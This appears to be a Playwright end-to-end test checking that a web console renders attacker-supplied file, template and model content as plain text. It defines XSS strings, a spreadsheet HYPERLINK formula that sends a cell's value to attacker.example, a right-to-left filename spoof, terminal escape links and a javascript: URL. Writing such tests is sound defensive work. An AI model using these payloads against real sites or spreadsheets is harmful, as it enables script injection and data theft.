"""What files, templates and models say is text on every page: never markup, and never a link."""

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.api import Person
from tests.e2e.console.conftest import SignedIn
from tests.support.provider import Provider

SCRIPT = "<img src=x onerror=\"document.title='taken'\"><script>document.title='taken'</script>"
FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"click")'
TURNED = "\u202egnp.exe\u202c \u2066back"
ESCAPES = "\x1b[31mred\x1b[0m\x1b]8;;https://attacker.example\x07link\x1b]8;;\x07"
LINK = "javascript:document.title='taken'"
#: Near the most that an answer may have.
HUGE = "<b>x</b> " * 110_000
HEADER = f'Name,"{SCRIPT.replace(chr(34), chr(34) * 2)}","quo""te\nand line",Link'


def _csv() -> bytes:
    rows = [SCRIPT, FORMULA, TURNED, "huge", "escapes"]
    lines = [
        ",".join('"' + cell.replace('"', '""') + '"' for cell in (row, FORMULA, TURNED, LINK)) for row in rows
    ]
    return "\n".join([HEADER, *lines]).encode()


@pytest.fixture
def hostile(signed_in: SignedIn, provider: Provider) -> tuple[Page, Person, str]:
    """A page signed in, and a finished job of which every word comes from an attacker."""
    person = signed_in.person
    person.add_key(provider.base_url)
    said = (("huge", HUGE), ("escapes", ESCAPES + TURNED), ("HYPERLINK", FORMULA))
    rules = [{"action": "content", "contains": word, "content": content} for word, content in said]
    provider.script(*rules, {"action": "content", "content": SCRIPT})
    file = person.file(_csv(), f"{SCRIPT[:60]}.csv")
    template = person.template(
        "{{Name}} " + SCRIPT,
        output_column="Out " + SCRIPT[:80],
        display_name=SCRIPT[:90],
        category=SCRIPT[:90],
    )
    job = person.job(file, [template])
    assert person.finished(job)["state"] == "COMPLETED"
    return signed_in.page, person, str(job["name"])


@pytest.mark.timeout(600)
def test_what_data_says_is_text_on_every_page(
    hostile: tuple[Page, Person, str], axe: Callable[[Page], list[str]]
) -> None:
    page, person, job = hostile
    (template,) = person.ok("GET", "/v1/templates")["templates"]
    (file,) = person.ok("GET", "/v1/files")["files"]
    places = {
        "/templates": "table",
        f"/{template['name']}": "textarea",
        "/jobs": "table",
        f"/jobs/new?file={file['name'].split('/')[1]}&template={template['name'].split('/')[1]}": "aside",
        f"/{job}": "[role=grid]",
    }
    for address, sign in places.items():
        page.goto(address)
        expect(page.locator(sign).first).to_be_visible()
        _is_text(page)
    grid = page.get_by_role("grid", name="Rows of the job")
    expect(grid).to_contain_text("<img src=x onerror")
    # A cell of a megabyte is cut in the table, and whole on demand.
    assert max(map(len, grid.get_by_role("gridcell").all_text_contents())) <= 1000
    grid.get_by_role("row").nth(4).get_by_role("gridcell").first.click()
    drawer = page.get_by_role("dialog", name="Row 4")
    drawer.get_by_role("button", name="Show all").click()
    expect(drawer.get_by_text(HUGE[:50]).first).to_be_visible()
    _is_text(page)
    page.goto(f"/{job}?row=5")
    expect(page.get_by_role("dialog", name="Row 5")).to_contain_text("red")
    _is_text(page)
    assert axe(page) == []


def _is_text(page: Page) -> None:
    """No element, address or width of the page comes from data."""
    assert page.title() != "taken"
    assert page.locator("main :is(script, img, iframe, object, embed, b, style)").count() == 0
    links = page.locator("a").evaluate_all("(all) => all.map((a) => a.href)")
    assert [link for link in links if not link.startswith(page.url.split("/", 3)[0])] == []
    assert not [link for link in links if "attacker.example" in link.split("?")[0]]
    wide = page.evaluate("[document.documentElement.scrollWidth, innerWidth]")
    assert wide[0] <= wide[1]
